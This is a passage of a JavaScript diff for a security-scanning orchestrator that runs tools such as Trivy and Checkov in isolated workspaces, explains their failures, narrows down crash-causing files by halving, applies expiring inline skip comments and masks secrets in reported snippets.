+ * Bicep, measured with 3.3.30). The temporary folder stays private to the run: they are copied in before it, and out after it ended well.
+ */
+async function bringKept(kept, temporary, files) {
+    for (const name of await namesIn(kept.folder, kept, files)) {
+        await files.write(`${temporary}/${name}`, await files.read(`${kept.folder}/${name}`));
+    }
+}
+/** A cache that cannot be written only costs time. */
+async function saveKept(kept, temporary, files) {
+    const there = new Set(await namesIn(kept.folder, kept, files));
+    for (const name of await namesIn(temporary, kept, files)) {
+        if (there.has(name))
+            continue;
+        await files.write(`${kept.folder}/${name}`, await files.read(`${temporary}/${name}`)).catch(() => undefined);
+    }
+}
+async function namesIn(folder, kept, files) {
+    const entries = await files.list(folder).catch(() => []);
+    return entries
+        .filter((entry) => entry.type === 'file' && entry.openable && entry.name.startsWith(kept.prefix))
+        .map((entry) => entry.name);
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/run/explain-run.js
+
+/** `trivy/config` -> `Trivy`. */
+const titleOf = (scanner) => scanner.tool.charAt(0).toUpperCase() + scanner.tool.slice(1);
+const explain_run_minutes = (milliseconds) => milliseconds % 60_000 === 0 ? `${milliseconds / 60_000}m` : `${Math.round(milliseconds / 1000)}s`;
+/** How Go 1.26, CPython 3.11, orjson and the C library's loader say it; which of them comes first depends on where the limit was met. */
+const noMemory = /out of memory|\bMemoryError\b|cannot allocate memory|not enough memory|can't start new thread|failed to reserve page summary memory|failed to map segment from shared object(?!: Operation not permitted)/i;
+/** What standard error says of the machine: disk or memory. `undefined` when it says nothing of them. */
+function explainStderr(tool, stderr) {
+    if (/no space left on device/i.test(stderr)) {
+        return new errors/* GatehouseError */.GA('DISK_FULL', `${tool} could not write its report: the disk is full.`, {
+            hint: 'Free some space and run again.',
+        });
+    }
+    if (noMemory.test(stderr)) {
+        return new errors/* GatehouseError */.GA('TOOL_OUT_OF_MEMORY', `${tool} needed more memory than its limit allows.`, {
+            hint: `Raise it in the policy (tools: { ${tool.toLowerCase()}: { memory: 12g } }) or exclude the file that needs it.`,
+        });
+    }
+    return undefined;
+}
+/** What a run found counts when its first messages are lost, but not its silence about a file. */
+const explainLostMessages = (tool) => ({
+    code: 'OUTPUT_TOO_LARGE',
+    sentence: `${tool} wrote more than 16 MiB of messages, of which the first are lost: files that it did not read may be named in them.`,
+    hint: 'Exclude what it complains about in the policy (exclude: [...]).',
+});
+/** Why a process that did not end by itself brought nothing. */
+function explainEnd(scanner, end, stderr, limits) {
+    const tool = titleOf(scanner);
+    switch (end.type) {
+        case 'timed-out':
+            return explainSlowness(scanner, limits);
+        case 'signalled':
+            return (explainStderr(tool, stderr) ??
+                new errors/* GatehouseError */.GA('TOOL_KILLED', `${tool} was ended by ${end.signal} before it was done.`, {
+                    hint: 'The machine may be out of memory. Run again; if it stays, look at the system log.',
+                }));
+        case 'output-too-large':
+            return new errors/* GatehouseError */.GA('OUTPUT_TOO_LARGE', `${tool} wrote more than 384 MiB and was stopped.`, {
+                hint: 'Exclude generated files in the policy (exclude: [...]).',
+            });
+        case 'not-started':
+            return explainStart(tool, end);
+    }
+}
+/** How long it ran is only told where that is the limit of the policy: a part of it differs from run to run. */
+const explainSlowness = (scanner, { deadlineMs, limitMs }) => new errors/* GatehouseError */.GA('TOOL_TIMED_OUT', limitMs === undefined
+    ? `${titleOf(scanner)} was stopped after ${explain_run_minutes(deadlineMs)}, its limit.`
+    : `${titleOf(scanner)} took too long and was stopped (limit ${explain_run_minutes(limitMs)}).`, {
+    hint: `Run again; if it stays, raise the limit in the policy (tools: { ${scanner.tool}: { timeout: 20m } }) or exclude what is slow.`,
+});
+function explainStart(tool, end) {
+    switch (end.reason) {
+        case 'missing':
+            return new errors/* GatehouseError */.GA('TOOL_MISSING', `${tool} could not be started: its program is not there.`, {
+                hint: 'Run `gatehouse setup`.',
+            });
+        case 'not-executable':
+            return new errors/* GatehouseError */.GA('TOOL_NOT_EXECUTABLE', `${tool} could not be started: its program is not executable.`, {
+                hint: 'Run `gatehouse setup`.',
+            });
+        case 'other':
+            return new errors/* GatehouseError */.GA('TOOL_CRASHED', `${tool} could not be started: ${end.detail}.`, {
+                hint: 'Run `gatehouse setup`.',
+            });
+    }
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/run/custom-checks.js
+
+
+/** Writes them into a folder of their own, never into the stage: they come from another commit than what is scanned. */
+async function placeChecks(scanner, checks, place, files) {
+    const given = new Map(checks.files);
+    for (const path of scanner.checks?.beside([...given.keys()]) ?? [])
+        if (!given.has(path))
+            given.set(path, '');
+    for (const [path, text] of given)
+        await files.write(`${place}/${path}`, text);
+    return { place, checks };
+}
+const custom_checks_longestLine = 8192;
+/**
+ * The checks that the tool says it could not use, as one problem; `undefined` when it says so of none. Only the files are named: the
+ * tool's words quote them.
+ */
+function brokenChecks(scanner, stderr, { place, checks }) {
+    const lines = stderr.split('\n').map((line) => line.slice(0, custom_checks_longestLine));
+    const paths = [...checks.files.keys()];
+    const within = place.replace(/^\//, '');
+    const named = paths.filter((path) => lines.some((line) => mentions(line, `${within}/${path}`)));
+    const complaints = lines.flatMap((line) => scanner.checks?.complaints.flatMap((words) => words.exec(line) ?? []) ?? []);
+    const byName = paths.filter((path) => complaints.includes(path.slice(path.lastIndexOf('/') + 1)));
+    const broken = sortedUnique([...named, ...byName]).map((path) => `${checks.folder}/${path}`);
+    if (broken.length === 0 && complaints.length === 0)
+        return undefined;
+    const what = broken.length === 0 ? `a check in ${checks.folder}` : broken.join(', ');
+    return {
+        code: 'CHECK_INVALID',
+        sentence: `${titleOf(scanner)} could not use ${what}, so what it looks for was not looked for.`,
+        hint: 'Correct the check, and try it with the tool itself; it counts when it is merged.',
+    };
+}
+/** Not as the beginning of a longer name. */
+const mentions = (line, path) => line
+    .split(path)
+    .slice(1)
+    .some((rest) => !/^[\w-]/.test(rest));
+
+;// CONCATENATED MODULE: ./build/js/flow/run/run-scanner.js
+
+
+
+
+/** The most a tool may print or write; more is `failed` (DESIGN 5). */
+const outputBytes = 384 * 1024 * 1024;
+/** Of a tool's messages, which name the files it did not read: some 50,000 of them. */
+const stderrBytes = 16 * 1024 * 1024;
+/** Starts a scanner from an empty folder with an empty HOME, nothing inherited, and reads its native report. */
+async function runScanner(request, ports) {
+    const { scanner, workspace } = request;
+    const [cwd, home, temporary, scratch] = ['cwd', 'home', 'tmp', 'scratch'].map((name) => `${workspace}/${name}`);
+    if (cwd === undefined || home === undefined || temporary === undefined || scratch === undefined)
+        throw new errors/* GatehouseError */.GA('INTERNAL', 'No workspace.');
+    for (const folder of [cwd, home, temporary, scratch])
+        await ports.files.makeDirectory(folder);
+    const { kept } = request.installed;
+    if (kept !== undefined)
+        await bringKept(kept, temporary, ports.files);
+    const report = `${workspace}/report.json`;
+    const command = scanner.command({
+        root: request.stage,
+        formats: request.formats,
+        scratch,
+        report,
+        without: request.without,
+        ...(request.only === undefined ? {} : { only: request.only }),
+        ...(request.database === undefined ? {} : { database: request.database }),
+        ...(request.checks === undefined ? {} : { checks: request.checks.place }),
+    });
+    const result = await ports.exec.run({
+        file: request.installed.file,
+        args: [...request.installed.args, ...command.args],
+        cwd,
+        env: {
+            PATH: cwd,
+            HOME: home,
+            TMPDIR: temporary,
+            LANG: 'C.UTF-8',
+            LC_ALL: 'C.UTF-8',
+            ...request.installed.env,
+            ...command.env,
+        },
+        deadlineMs: request.deadlineMs,
+        memoryBytes: request.memoryBytes,
+        outputBytes,
+        stderrBytes,
+        isolated: true,
+        hidden: request.hidden,
+        ...(command.reportOn === 'stdout' ? { stdoutFile: report } : { watched: report }),
+    });
+    const measured = { durationMs: result.durationMs, isolated: result.isolated };
+    try {
+        const parsed = await run_scanner_readReport(request, result, report, ports);
+        // What ran beside code of a repository is nothing that other runs may trust.
+        if (kept !== undefined && request.checks === undefined)
+            await saveKept(kept, temporary, ports.files);
+        return { type: 'parsed', parsed, ...measured };
+    }
+    catch (error) {
+        return { type: 'failed', problem: (0,errors/* toProblem */.H8)(error), ...measured };
+    }
+}
+async function run_scanner_readReport(request, result, report, ports) {
+    const { scanner, checks } = request;
+    if (result.end.type !== 'exited')
+        throw explainEnd(scanner, result.end, result.stderr, request);
+    const text = await ports.files.readText(report).catch(() => '');
+    const broken = checks === undefined ? undefined : brokenChecks(scanner, result.stderr, checks);
+    if (broken !== undefined && result.end.code !== 0)
+        throw new errors/* GatehouseError */.GA(broken.code, broken.sentence, run_scanner_hintOf(broken));
+    const parsed = run_scanner_parse(scanner, {
+        report: text,
+        stderr: result.stderr,
+        exit: result.end.code,
+        root: request.stage,
+        files: request.files,
+    });
+    const first = parsed.problems[0];
+    if (first !== undefined)
+        throw new errors/* GatehouseError */.GA(first.code, first.sentence, run_scanner_hintOf(first));
+    const lost = result.stderrCut === true ? [explainLostMessages(titleOf(scanner))] : [];
+    return { ...parsed, problems: broken === undefined ? lost : [broken, ...lost] };
+}
+const run_scanner_hintOf = ({ hint }) => (hint === undefined ? {} : { hint });
+/** A report that cannot be decoded says less about the trouble than the way the process ended. */
+function run_scanner_parse(scanner, run) {
+    try {
+        return scanner.parse(run);
+    }
+    catch (error) {
+        const spoken = explainStderr(titleOf(scanner), run.stderr);
+        if (spoken !== undefined)
+            throw spoken;
+        throw error;
+    }
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/run/time-budget.js
+/** Less is too short for a tool to start and read one file. */
+const shortestMs = 10_000;
+function startTimeBudget(totalMs, clock) {
+    const end = clock.monotonicMs() + totalMs;
+    const left = () => Math.max(0, end - clock.monotonicMs());
+    return {
+        isSpent: () => left() <= 0,
+        share: () => Math.ceil(Math.min(left(), Math.max(shortestMs, left() / 4))),
+    };
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/run/narrow.js
+
+
+
+
+/** Runs spent on one format's files, halves and all (DESIGN 3). */
+const runsPerFormat = 8;
+/**
+ * Looks for what made a run of the whole tree fail: format by format, then in halves of a format's files down to the file, which is a
+ * gap by name while everything else counts. A tool that fails over the canaries alone fails over everything: nothing is searched then.
+ */
+async function narrowFailure(request, whole, stage, ports) {
+    const search = startSearch(request, stage, ports);
+    const canaries = request.formats.flatMap((format) => canaryFilesOf(search, format));
+    const proof = canaries.length === 0 ? undefined : await search.run(request.formats, canaries);
+    const spentMs = whole.durationMs + (proof?.durationMs ?? 0);
+    if (proof?.type === 'failed')
+        return { ...failedReading(whole, request.formats), durationMs: spentMs };
+    const parts = [];
+    for (const format of request.formats) {
+        parts.push(search.budget.isSpent() ? failedReading(whole, [format]) : await readFormat(format, search));
+    }
+    const united = uniteReadings(parts.map((part) => inWordsOf(whole, part)));
+    return { ...united, durationMs: united.durationMs + spentMs };
+}
+/** Parts that failed in the same way as the whole say the same, once. */
+const inWordsOf = ({ problem }, part) => ({
+    ...part,
+    problems: part.problems.map((own) => (own.code === problem.code ? problem : own)),
+});
+function startSearch(request, stage, ports) {
+    const budget = startTimeBudget(request.deadlineMs, ports.clock);
+    let runs = 0;
+    return {
+        scanner: request.scanner,
+        stage,
+        without: new Set(request.without),
+        budget,
+        run: (formats, only) => {
+            runs += 1;
+            const workspace = `${request.workspace}/again-${runs}`;
+            const limits = { deadlineMs: budget.share(), limitMs: request.deadlineMs };
+            return runScanner({ ...request, ...limits, workspace, formats, ...(only === undefined ? {} : { only }) }, ports);
+        },
+    };
+}
+/** The canary goes along with every half, so that each half proves that it was read. */
+function canaryFilesOf({ scanner, stage }, format) {
+    const canary = scanner.canaries.find((candidate) => candidate.format === format);
+    const folder = canaryPath(stage.canaryFolder, scanner.name, format);
+    return Object.keys(canary?.files ?? {}).map((name) => `${folder}/${name}`);
+}
+async function readFormat(format, search) {
+    const alone = await search.run([format]);
+    if (alone.type === 'parsed')
+        return readingOf(alone);
+    const files = search.stage.files
+        .filter((file) => file.formats.includes(format) && !search.without.has(file.path))
+        .map((file) => file.path);
+    if (!search.scanner.standsAlone.includes(format) || files.length === 0)
+        return failedReading(alone, [format]);
+    const reading = await halve(format, files, alone, search);
+    return { ...reading, durationMs: reading.durationMs + alone.durationMs };
+}
+async function halve(format, files, first, search) {
+    const canary = canaryFilesOf(search, format);
+    const parsed = [];
+    const gaps = [];
+    let [runs, durationMs] = [0, 0];
+    const attempt = async (group) => {
+        const result = await search.run([format], [...canary, ...group]);
+        if (result.type === 'parsed')
+            parsed.push(result.parsed);
+        runs += 1;
+        durationMs += result.durationMs;
+        return result;
+    };
+    const suspects = files.length === 1 ? [] : halves(files);
+    if (files.length === 1)
+        gaps.push(...crashed(files, search.scanner, first.problem));
+    for (let group = suspects.shift(); group !== undefined; group = suspects.shift()) {
+        if (runs >= runsPerFormat || search.budget.isSpent()) {
+            const rest = crashed([group, ...suspects].flat(), search.scanner, first.problem);
+            return { parsed, problems: [first.problem], gaps: [...gaps, ...rest], unread: [], durationMs };
+        }
+        const result = await attempt(group);
+        if (result.type === 'parsed')
+            continue;
+        if (group.length === 1)
+            gaps.push(...crashed(group, search.scanner, result.problem));
+        else
+            suspects.push(...halves(group));
+    }
+    const proof = parsed.length > 0 ? undefined : await attempt([]);
+    if (proof?.type === 'failed')
+        return { ...failedReading(proof, [format]), durationMs };
+    return { parsed, problems: parsed.flatMap(({ problems }) => problems), gaps, unread: [], durationMs };
+}
+const halves = (files) => {
+    const middle = Math.ceil(files.length / 2);
+    return [files.slice(0, middle), files.slice(middle)].filter((half) => half.length > 0);
+};
+const crashed = (paths, scanner, problem) => paths.map((path) => ({ path, reason: 'crashed-tool', tool: scanner.tool, detail: problem.sentence }));
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/read-tree.js
+
+
+
+
+/** Runs the scanner; when it crashes, hangs or prints half a report, looks for what it stumbled over, so that the rest counts. */
+async function readTree(request, stage, ports) {
+    const whole = await runScanner(request, ports);
+    if (whole.type === 'parsed')
+        return readingOf(whole);
+    return request.scanner.standsAlone.length === 0
+        ? failedReading(whole, request.formats)
+        : narrowFailure(request, whole, stage, ports);
+}
+/** Files per format among those given. */
+function countOf(formats, files) {
+    return [...formats]
+        .sort(order_compareText)
+        .map((format) => ({ format, files: files.filter((file) => file.formats.includes(format)).length }));
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/supply/supply-scan.js
+
+
+const isSupplied = (means) => 'installed' in means;
+/** A folder of its own for one scanner. */
+const workspaceOf = (workspace, { scanner }) => `${workspace}/${scanner.name.replace('/', '-')}`;
+/** What the lock says of a tool that was not brought. */
+const unknownTool = ({ scanner }) => ({
+    name: scanner.tool,
+    version: lockedVersion(scanner.tool),
+    digest: '',
+    origin: 'none',
+});
+/** Nothing is brought, because it could not be used. */
+const unsupplied = (planned, problem) => ({
+    tool: unknownTool(planned),
+    data: [],
+    means: problem,
+});
+/** Installs what one scanner needs and checks it by digest. Never rejects: trouble is a value, for the evidence of this scanner alone. */
+async function supplyScan(planned, workspace, supplies) {
+    const { scanner } = planned;
+    let tool = unknownTool(planned);
+    try {
+        const installed = await supplies.install(scanner.tool);
+        tool = identityOf(installed);
+        if (!scanner.needsDatabase)
+            return { tool, data: [], means: { installed } };
+        const { data, folder } = await supplies.database(`${workspaceOf(workspace, planned)}/data`);
+        return { tool, data: [data], means: { installed, database: folder } };
+    }
+    catch (error) {
+        return { tool, data: [], means: (0,errors/* toProblem */.H8)(error) };
+    }
+}
+const identityOf = ({ name, version, digest, origin }) => ({ name, version, digest, origin });
+
+;// CONCATENATED MODULE: ./build/js/flow/run/find-crashing.js
+/** Files that are known to end the tool's whole run, as gaps by name: without them, the rest of the tree counts. */
+async function findCrashing({ tool, crashesOn }, formats, stage, files) {
+    if (crashesOn === undefined)
+        return [];
+    const gaps = [];
+    for (const { path, formats: own } of stage.files) {
+        const known = own.filter((format) => formats.includes(format) && crashesOn.formats.includes(format));
+        if (known.length === 0)
+            continue;
+        const text = await files.readText(`${stage.root}/${path}`);
+        const detail = known.map((format) => crashesOn.reason(format, text)).find((reason) => reason !== undefined);
+        if (detail !== undefined)
+            gaps.push({ path, reason: 'crashed-tool', tool, detail });
+    }
+    return gaps;
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/run/run-planned.js
+
+
+
+
+
+
+/** Runs one scanner over the stage. Never rejects: whatever goes wrong is in the evidence of this scanner alone. */
+async function runPlanned(planned, { tool, data, means }, context, ports) {
+    const { scanner, formats, deadlineMs, memoryBytes } = planned;
+    const label = run_planned_labelOf(planned, context);
+    ports.progress.step(label, 'started');
+    const reading = isSupplied(means)
+        ? await read(planned, means, context, ports).catch((error) => run_planned_unread(planned, (0,errors/* toProblem */.H8)(error)))
+        : run_planned_unread(planned, means);
+    const [problem] = reading.problems;
+    ports.progress.step(label, problem === undefined ? 'finished' : 'failed', problem?.sentence ?? '');
+    const rules = rulesFor(planned, context.checks);
+    const own = rules === undefined ? {} : { rules };
+    return { scanner, tool, formats, reading, data, ...own, limits: { deadlineMs, memoryBytes } };
+}
+async function read(planned, means, context, ports) {
+    const { stage, hidden } = context;
+    const { scanner, formats, deadlineMs, memoryBytes } = planned;
+    const crashing = await findCrashing(scanner, formats, stage, ports.files);
+    const workspace = workspaceOf(context.workspace, planned);
+    const own = checksFor(planned, context);
+    const checks = own && (await placeChecks(scanner, own, `${workspace}/checks`, ports.files));
+    const request = {
+        scanner,
+        stage: stage.root,
+        files: stage.paths,
+        workspace,
+        formats,
+        without: crashing.map(({ path }) => path),
+        deadlineMs,
+        memoryBytes,
+        hidden,
+        ...(checks === undefined ? {} : { checks }),
+        ...means,
+    };
+    const reading = await readTree(request, stage, ports);
+    return { ...reading, gaps: [...crashing, ...reading.gaps] };
+}
+const checksFor = ({ scanner }, { checks }) => scanner.checks === undefined ? undefined : checks.find(({ tool }) => tool === scanner.tool);
+const run_planned_unread = ({ formats }, problem) => ({
+    parsed: [],
+    problems: [problem],
+    gaps: [],
+    unread: formats,
+    durationMs: 0,
+});
+/** Of the repository's own checks that this scanner is given. */
+const rulesFor = (planned, checks) => checksFor(planned, { checks })?.digest;
+/** As a person watching knows it. */
+function run_planned_labelOf({ scanner }, { on }) {
+    const part = scanner.name.includes('/') ? ` ${scanner.name.slice(scanner.tool.length + 1)}` : '';
+    return `${titleOf(scanner)}${part}${on === undefined ? '' : ` on ${on}`}`;
+}
+
 ;// CONCATENATED MODULE: ./build/js/flow/scan/limit-plan.js
 
 /** Applies the policy's switches and limits, and the tools that the user asked for, to what could be scanned. */
@@ -65683,7 +67056,1113 @@ function limitPlan(plan, policy, tools) {
     });
 }
 
+;// CONCATENATED MODULE: ./build/js/repository/apply-skips.js
+
+
+/**
+ * `neutralised`: tools that no longer see their comments; the others report by themselves what they skipped. `today` is a UTC day: what
+ * has expired by then reaches nothing.
+ */
+function createSkips(files, neutralised, today) {
+    const byPath = new Map(files.filter((file) => file.skips.length > 0).map((file) => [file.path, file.skips]));
+    const matched = new Set();
+    return {
+        skipFor(reported, tool, spans, lines) {
+            const named = (byPath.get(reported.path) ?? []).filter((comment) => comment.tool === tool && apply_skips_names(comment, reported.ruleId) && !isExpired(comment, today));
+            const fitting = neutralised.has(tool)
+                ? named.filter((comment) => reaches(comment, spans, lines))
+                : named.filter(() => reported.skip !== undefined);
+            for (const comment of fitting)
+                matched.add(comment);
+            const first = fitting[0];
+            if (first === undefined || reported.skip !== undefined)
+                return reported.skip;
+            return { by: 'inline', ...(first.reason === undefined ? {} : { reason: first.reason }) };
+        },
+        all: (mask) => [...byPath]
+            .flatMap(([path, comments]) => comments.map((comment) => ({ path, ...apply_skips_inWords(comment, today, mask), matched: matched.has(comment) })))
+            .sort((a, b) => compareAll(order_compareText(a.path, b.path), a.line - b.line, order_compareText(a.tool, b.tool))),
+    };
+}
+const apply_skips_inWords = (comment, today, mask) => {
+    const { line, tool, rules, reason, expires } = comment;
+    return {
+        line,
+        tool,
+        rules: rules.map(mask),
+        ...(reason === undefined ? {} : { reason: mask(reason) }),
+        ...(expires !== undefined && isExpired(comment, today) ? { expired: mask(expires) } : {}),
+    };
+};
+const apply_skips_names = (comment, ruleId) => comment.rules.some((rule) => rule === '*' || rule === ruleId);
+/** The comment stands right above one of the blocks around the finding, or inside the smallest. */
+function reaches(comment, spans, lines) {
+    const innermost = spans.at(-1);
+    if (innermost === undefined)
+        return false;
+    if (innermost.startLine <= comment.line && comment.line <= innermost.endLine)
+        return true;
+    const next = nextCodeLine(comment.line, lines);
+    return spans.some((span) => span.startLine === next);
+}
+const isCode = (line) => !/^\s*(?:#|\/\/|\/\*|\*|$)/.test(line);
+function nextCodeLine(line, lines) {
+    let next = line;
+    while (next < lines.length && !isCode(lines[next] ?? ''))
+        next += 1;
+    return next + 1;
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/region.js
+
+/** Tools report line 0 and lines past the end: the nearest lines that there are. */
+function clipRegion({ startLine, endLine }, lineCount) {
+    const last = Math.max(1, lineCount);
+    const first = Math.min(Math.max(1, startLine), last);
+    return { startLine: first, endLine: Math.min(Math.max(first, endLine), last) };
+}
+/** The lines without the blanks around them; a span (0-based columns of one line) narrows a single line to itself. */
+function narrowRegion(lines, startLine, endLine, span) {
+    if (span !== undefined && startLine === endLine) {
+        return { startLine, endLine, startColumn: span.start + 1, endColumn: span.end + 1 };
+    }
+    const [first, last] = [lines[startLine - 1] ?? '', lines[endLine - 1] ?? ''];
+    const startColumn = first.length - first.trimStart().length + 1;
+    const endColumn = last.trimEnd().length + 1;
+    return {
+        startLine,
+        endLine,
+        startColumn,
+        endColumn: startLine === endLine ? Math.max(startColumn, endColumn) : endColumn,
+    };
+}
+/** Characters of a line that a snippet shows; a file on one line is not copied whole. */
+const region_longestLine = 400;
+/** The first lines of a region for a person to read, masked before anything is cut, so that no half of a secret stays. */
+function snippetOf(lines, region, mask, maxLines = 6) {
+    const end = Math.min(region.endLine, region.startLine + maxLines - 1);
+    const text = mask(lines.slice(region.startLine - 1, end).join('\n'));
+    if (text.length <= region_longestLine)
+        return text;
+    return text
+        .split('\n')
+        .map((line) => (line.length > region_longestLine ? `${line.slice(0, region_longestLine)}…` : line))
+        .join('\n');
+}
+/** sha256 of the lines without their indentation and trailing blanks: moving or re-indenting a block changes nothing. */
+const region_digestOf = (lines, startLine, endLine) => sha256Hex(lines
+    .slice(startLine - 1, endLine)
+    .map((line) => line.trim())
+    .join('\n'));
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/mask.js
+
+const stars = '****';
+/** Shorter words occur by chance: starring them would hide nothing and spoil everything. */
+const shortestSecret = 6;
+const shortestEncoded = 8;
+/** A secret as long as a file is not looked for in other clothes. */
+const longestEncoded = 10_000;
+/** A longer secret is looked for in pieces of this length, so that each comparison is bounded. */
+const longestPiece = 256;
+/** With more secrets that begin alike, whatever begins so is taken for one. */
+const mostAlike = 16;
+/**
+ * A mask for these secrets of at least 6 characters, and from 8 characters on for what they look like in JSON, in a URL and in base64.
+ * Time is linear in the text, whatever the number of secrets: at each place one look-up of six characters, and at most
+ * 16 comparisons of 256 characters where it hits. Where it cannot be exact it hides more, never less.
+ */
+function createMask(secrets) {
+    const byStart = groupByStart(allForms(secrets));
+    if (byStart.size === 0)
+        return credentials/* hideCredentials */.R;
+    const firstCodes = new Set([...byStart.keys()].map((start) => start.charCodeAt(0)));
+    return (text) => (0,credentials/* hideCredentials */.R)(star(text, byStart, firstCodes));
+}
+function groupByStart(forms) {
+    const groups = new Map();
+    for (const form of forms) {
+        const start = form.slice(0, shortestSecret);
+        const group = groups.get(start);
+        if (group === undefined)
+            groups.set(start, [form]);
+        else
+            group.push(form);
+    }
+    for (const group of groups.values())
+        group.sort((a, b) => b.length - a.length);
+    return groups;
+}
+function star(text, byStart, firstCodes) {
+    const parts = [];
+    let [done, hidden] = [0, 0];
+    for (let at = 0; at + shortestSecret <= text.length; at += 1) {
+        const alike = firstCodes.has(text.charCodeAt(at)) ? byStart.get(text.slice(at, at + shortestSecret)) : undefined;
+        if (alike === undefined)
+            continue;
+        const end = endOfSecret(text, at, alike, hidden);
+        if (end <= Math.max(at, hidden))
+            continue;
+        if (at > hidden || parts.length === 0)
+            parts.push(text.slice(done, at), stars);
+        hidden = end;
+        done = end;
+    }
+    return parts.length === 0 ? text : parts.join('') + text.slice(done);
+}
+/** Where a secret that begins at `at` ends; not beyond `at` when none does. What ends before `hidden` is hidden already. */
+function endOfSecret(text, at, alike, hidden) {
+    if (alike.length > mostAlike)
+        return endOfWord(text, Math.max(at + shortestSecret, hidden));
+    const found = alike.find((secret) => text.startsWith(secret, at));
+    return found === undefined ? at : at + found.length;
+}
+const wordEnd = /[\s"']/g;
+function endOfWord(text, from) {
+    wordEnd.lastIndex = from;
+    return wordEnd.exec(text)?.index ?? text.length;
+}
+function allForms(secrets) {
+    const forms = new Set();
+    for (const secret of new Set(secrets)) {
+        if (secret.length < shortestSecret)
+            continue;
+        for (const form of formsOf(secret))
+            for (const piece of mask_piecesOf(form))
+                forms.add(piece);
+    }
+    return forms;
+}
+/** What a secret looks like in other clothes. */
+function formsOf(secret) {
+    if (secret.length < shortestEncoded || secret.length > longestEncoded)
+        return [secret];
+    const bytes = new TextEncoder().encode(secret);
+    const encoded = [0, 1, 2].map((shift) => base64Middle(bytes, shift)).filter((form) => form.length >= shortestSecret);
+    return [
+        secret,
+        JSON.stringify(secret).slice(1, -1),
+        urlEncoded(secret),
+        ...encoded,
+        ...encoded.map((form) => form.replaceAll('+', '-').replaceAll('/', '_')),
+    ];
+}
+/** A lone surrogate cannot be encoded; it is no secret then. */
+function urlEncoded(secret) {
+    try {
+        return encodeURIComponent(secret);
+    }
+    catch {
+        return secret;
+    }
+}
+/** The part of the base64 of a longer text that depends on these bytes alone, when `shift` other bytes stand before them. */
+function base64Middle(bytes, shift) {
+    const padded = new Uint8Array(shift + bytes.length);
+    padded.set(bytes, shift);
+    const text = btoa(Array.from(padded, (byte) => String.fromCharCode(byte)).join(''));
+    const from = Math.ceil((shift * 8) / 6);
+    const to = Math.floor((padded.length * 8) / 6);
+    return text.slice(from, to);
+}
+function mask_piecesOf(form) {
+    if (form.length <= longestPiece)
+        return [form];
+    const count = Math.ceil(form.length / longestPiece);
+    const size = Math.ceil(form.length / count);
+    return Array.from({ length: count }, (_, index) => form.slice(index * size, (index + 1) * size)).filter((piece) => piece.length >= shortestSecret);
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/secret-span.js
+/** Longer hints are not compared: no tool shows so much of a line. */
+const secret_span_longestHint = 20_000;
+const mostPlaces = 1000;
+/**
+ * Where the secret is in a line, from what a tool shows of it. Trivy shows the line, or a window of it, with each secret starred in its
+ * own length (`Match`, 0.74.0); Checkov shows the line with each secret cut to its first 5 or 6 characters and ten stars (3.3.30). Where
+ * the hint does not fit: all after the first `=` or `:`, else the whole line. Sorted, not overlapping.
+ */
+function findSecretSpans(line, hint) {
+    // A window is cut by bytes: half a character at its ends is none of the line's.
+    const shown = (hint ?? '').replace(/\r?\n$/, '').replace(/^\uFFFD{1,4}|\uFFFD{1,4}$/g, '');
+    const isUsable = shown.includes('*') && shown.length <= secret_span_longestHint;
+    if (isUsable) {
+        const spans = isCut(shown) ? cutSpans(line, shown) : (equalSpans(line, shown) ?? cutSpans(line, shown));
+        if (spans !== undefined)
+            return spans;
+    }
+    return [valueSpan(line)];
+}
+/** The line with every span replaced by four stars, so that neither the secret nor its length is left. */
+function starLine(line, spans) {
+    let [result, done] = ['', 0];
+    for (const { start, end } of [...spans].sort((a, b) => a.start - b.start)) {
+        if (end <= done)
+            continue;
+        result += start >= done ? `${line.slice(done, start)}****` : '';
+        done = end;
+    }
+    return result + line.slice(done);
+}
+/** Checkov's way: ten stars right after a character of the secret. */
+const isCut = (shown) => /[^\s*"'`=:,;()[\]{}<>]\*{10}(?!\*)/.test(shown);
+/** Trivy's way: the hint and a window of the line agree, but for the stars. */
+function equalSpans(line, shown) {
+    for (const offset of windows(line, shown)) {
+        if (!agrees(line, shown, offset))
+            continue;
+        const spans = starRuns(shown)
+            .map(({ start, end }) => ({ start: start + offset, end: end + offset }))
+            .filter(({ start, end }) => !/^\**$/.test(line.slice(start, end)));
+        if (spans.length > 0)
+            return spans;
+    }
+    return undefined;
+}
+/** Where the hint could begin: wherever its longest plain piece occurs. */
+function windows(line, shown) {
+    if (shown.length === line.length)
+        return [0];
+    const plain = plainPieces(shown);
+    const anchor = plain.reduce((best, piece) => (piece.text.length > best.text.length ? piece : best), {
+        text: '',
+        start: 0,
+    });
+    if (anchor.text === '')
+        return [];
+    const found = [];
+    for (let at = line.indexOf(anchor.text); at >= 0 && found.length < mostPlaces; at = line.indexOf(anchor.text, at + 1)) {
+        found.push(at - anchor.start);
+    }
+    return found.filter((offset) => isWindow(line, shown, offset));
+}
+/** Trivy cuts lines of more than a hundred characters, and no secret: one at the edge of a window is at the edge of the line. */
+const isWindow = (line, shown, offset) => {
+    const end = offset + shown.length;
+    if (line.length <= 100 || offset < 0 || end > line.length)
+        return false;
+    return (offset === 0 || !shown.startsWith('*')) && (end === line.length || !shown.endsWith('*'));
+};
+function agrees(line, shown, offset) {
+    for (let at = 0; at < shown.length; at += 1) {
+        if (shown[at] !== '*' && shown[at] !== line[at + offset])
+            return false;
+    }
+    return true;
+}
+const starRuns = (shown) => [...shown.matchAll(/\*{3,}/g)].map((match) => ({ start: match.index, end: match.index + match[0].length }));
+const plainPieces = (shown) => [...shown.matchAll(/[^*]+/g)].map((match) => ({ text: match[0], start: match.index }));
+/** Finds the plain pieces one after the other; what lies between them is secret, with the characters shown of it. */
+function cutSpans(line, shown) {
+    const pieces = shown.split(/\*{3,}/);
+    const spans = [];
+    let from = 0;
+    for (const [index, piece] of pieces.slice(0, -1).entries()) {
+        const at = line.indexOf(piece, from);
+        if (at < 0 || (piece === '' && index === 0))
+            return undefined;
+        const span = spanBetween(line, at, at + piece.length, pieces[index + 1] ?? '');
+        if (span === undefined)
